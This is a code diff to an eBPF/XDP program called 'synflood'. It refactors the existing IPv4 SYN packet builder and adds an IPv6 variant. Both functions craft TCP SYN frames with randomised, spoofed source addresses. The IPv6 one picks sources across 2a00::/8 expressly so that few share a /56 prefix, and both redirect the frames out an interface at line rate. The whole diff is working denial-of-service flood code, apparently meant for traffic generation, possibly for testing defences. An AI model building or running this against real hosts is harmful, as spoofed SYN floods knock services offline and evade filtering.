@@ -5,6 +5,7 @@
 #include <linux/if_ether.h>
 #include <linux/in.h>
 #include <linux/ip.h>
+#include <linux/ipv6.h>
 #include <linux/tcp.h>
 #include <bpf/bpf_endian.h>
 #include <bpf/bpf_helpers.h>
@@ -18,7 +19,12 @@ struct frame {
 	struct iphdr ip;
 	struct tcphdr tcp;
 } __attribute__((packed));
-_Static_assert(sizeof(struct frame) <= SYNFLOOD_FRAME, "frame");
+struct frame6 {
+	struct ethhdr eth;
+	struct ipv6hdr ip;
+	struct tcphdr tcp;
+} __attribute__((packed));
+_Static_assert(sizeof(struct frame) <= 64 && sizeof(struct frame6) <= SYNFLOOD_FRAME, "frame");
 
 static __always_inline __u16 fold(__u32 sum)
 {
@@ -48,36 +54,72 @@ static __always_inline __be32 random_source(void)
 	return bpf_htonl(first << 24 | (r & 0xffffff));
 }
 
+static __always_inline void link_header(struct ethhdr *eth, __u16 proto)
+{
+#pragma unroll
+	for (int i = 0; i < 6; i++)
+		eth->h_dest[i] = conf.mac[i];
+	eth->h_source[0] = 2;
+	eth->h_proto = bpf_htons(proto);
+}
+
+/* A SYN; pseudo is the sum over the addresses. */
+static __always_inline void syn(void *at, __u32 r, __u32 pseudo)
+{
+	struct tcphdr *tcp = at;
+
+	tcp->source = bpf_htons(1024 + r % 64000);
+	tcp->dest = conf.dport;
+	tcp->seq = r;
+	tcp->doff = 5;
+	tcp->syn = 1;
+	tcp->window = bpf_htons(64240);
+	tcp->check = fold(words(tcp, sizeof(*tcp)) + pseudo + bpf_htons(IPPROTO_TCP) +
+			  bpf_htons(sizeof(*tcp)));
+}
+
 SEC("xdp")
 int synflood(struct xdp_md *ctx)
 {
 	struct frame *f = (void *)(long)ctx->data;
-	__u32 r = bpf_get_prandom_u32();
 
 	if ((void *)(f + 1) > (void *)(long)ctx->data_end)
 		return XDP_ABORTED;
 	__builtin_memset(f, 0, sizeof(*f));
-#pragma unroll
-	for (int i = 0; i < 6; i++)
-		f->eth.h_dest[i] = conf.mac[i];
-	f->eth.h_source[0] = 2;
-	f->eth.h_proto = bpf_htons(ETH_P_IP);
+	link_header(&f->eth, ETH_P_IP);
 	f->ip.version = 4;
 	f->ip.ihl = 5;
 	f->ip.ttl = 64;
 	f->ip.protocol = IPPROTO_TCP;
 	f->ip.tot_len = bpf_htons(sizeof(f->ip) + sizeof(f->tcp));
 	f->ip.saddr = random_source();
-	f->ip.daddr = conf.daddr;
+	f->ip.daddr = conf.daddr[0];
 	f->ip.check = fold(words(&f->ip, sizeof(f->ip)));
-	f->tcp.source = bpf_htons(1024 + r % 64000);
-	f->tcp.dest = conf.dport;
-	f->tcp.seq = r;
-	f->tcp.doff = 5;
-	f->tcp.syn = 1;
-	f->tcp.window = bpf_htons(64240);
-	f->tcp.check = fold(words(&f->tcp, sizeof(f->tcp)) + words(&f->ip.saddr, 8) +
-			    bpf_htons(IPPROTO_TCP) + bpf_htons(sizeof(f->tcp)));
+	syn(&f->tcp, bpf_get_prandom_u32(), words(&f->ip.saddr, 8));
+	return bpf_redirect(conf.ifindex, 0);
+}
+
+/* Sources: any address of 2a00::/8, so hardly two of one /56. */
+SEC("xdp")
+int synflood6(struct xdp_md *ctx)
+{
+	struct frame6 *f = (void *)(long)ctx->data;
+
+	if ((void *)(f + 1) > (void *)(long)ctx->data_end)
+		return XDP_ABORTED;
+	__builtin_memset(f, 0, sizeof(*f));
+	link_header(&f->eth, ETH_P_IPV6);
+	f->ip.version = 6;
+	f->ip.hop_limit = 64;
+	f->ip.nexthdr = IPPROTO_TCP;
+	f->ip.payload_len = bpf_htons(sizeof(f->tcp));
+#pragma unroll
+	for (int i = 0; i < 4; i++) {
+		f->ip.saddr.in6_u.u6_addr32[i] = bpf_get_prandom_u32();
+		f->ip.daddr.in6_u.u6_addr32[i] = conf.daddr[i];
+	}
+	f->ip.saddr.in6_u.u6_addr8[0] = 0x2a;
+	syn(&f->tcp, bpf_get_prandom_u32(), words(&f->ip.saddr, 32));
 	return bpf_redirect(conf.ifindex, 0);
 }
 
